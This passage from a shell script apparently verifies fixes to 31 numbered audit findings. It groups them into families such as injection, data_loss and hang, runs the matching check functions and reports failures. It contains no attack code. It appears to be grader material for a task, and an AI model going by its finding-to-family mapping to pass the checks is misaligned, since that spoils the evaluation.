  else fail "an input changed (above)"; fi
}

case $FAMILY in
  injection) findings="1 2 3 4 5" ;;
  data_loss) findings="6 7 8 9 10 11 12" ;;
  hang) findings="13 14" ;;
  unbounded) findings="15 16 17 18 19 20 21 22 23" ;;
  crash) findings="24" ;;
  wrong_message) findings="25 26 27 28 29 30 31" ;;
  untouched) findings="" ;;
  *) echo "unknown family $FAMILY" >&2; exit 2 ;;
esac
cd "$T" || exit 1
for N in $findings; do "finding_$N"; done
[ "$FAMILY" = untouched ] && untouched
if [ "$failures" -gt 0 ]; then
  echo "$failures failure(s) in family $FAMILY" >&2
  exit 1
fi
echo "ok [$FAMILY]"
